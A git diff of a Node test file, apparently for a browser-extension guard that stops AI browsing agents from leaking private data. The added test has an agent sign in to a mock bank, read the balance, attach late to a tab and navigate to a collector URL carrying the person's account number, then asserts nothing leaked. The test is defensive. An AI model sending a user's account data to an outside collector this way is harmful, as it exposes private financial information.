@@ -2,11 +2,13 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import { playwrightHands } from '../agents/playwright.mjs';
+import { rawCdpHands } from '../agents/raw-cdp.mjs';
 import { readBalance, signInToBank, until } from '../agents/tasks.mjs';
-import { PREPARE, SECRETS, sharedBrowser } from '../attacks/attempt.mjs';
+import { PREPARE, SECRETS, sceneOf, sharedBrowser } from '../attacks/attempt.mjs';
 import { page, raw } from '../sites/html.mjs';
 import { leaked } from '../sites/leaks.mjs';
-import { urlOf } from '../sites/world.mjs';
+import { flagsFor, startSites } from '../sites/server.mjs';
+import { PERSON, urlOf } from '../sites/world.mjs';
 import { openPopup } from './popup-of.mjs';
 import { extension } from './with-guard.mjs';
 
@@ -115,3 +117,29 @@ describe('after a private read', () => {
     assert.ok(!reached(NEWER));
   });
 });
+
+for (const [what, shows] of [
+  ['an empty tab', 'about:blank'],
+  ['a tab of the person’s', urlOf('forum')],
+])
+  test(`${what} that an agent attaches to late, and uses at once`, { timeout: 60_000 }, async () => {
+    const sites = await startSites();
+    const hands = await rawCdpHands({ extension, args: flagsFor(sites) });
+    try {
+      const scene = sceneOf(hands, sites);
+      // Before there is an agent.
+      const early = shows === 'about:blank' ? undefined : await hands.openTab(shows);
+      await hands.wait(2_500);
+      await signInToBank(hands, scene.world);
+      await readBalance(hands, scene.memory);
+      const tab = early ?? (await hands.openTab(shows));
+      await hands.wait(4_000);
+      const late = await tab.attach();
+      await late.goto(`${COLLECT}?d=${encodeURIComponent(PERSON.account)}`).catch(() => undefined);
+      await hands.wait(1_000);
+      assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+    } finally {
+      await hands.close();
+      await sites.close();
+    }
+  });
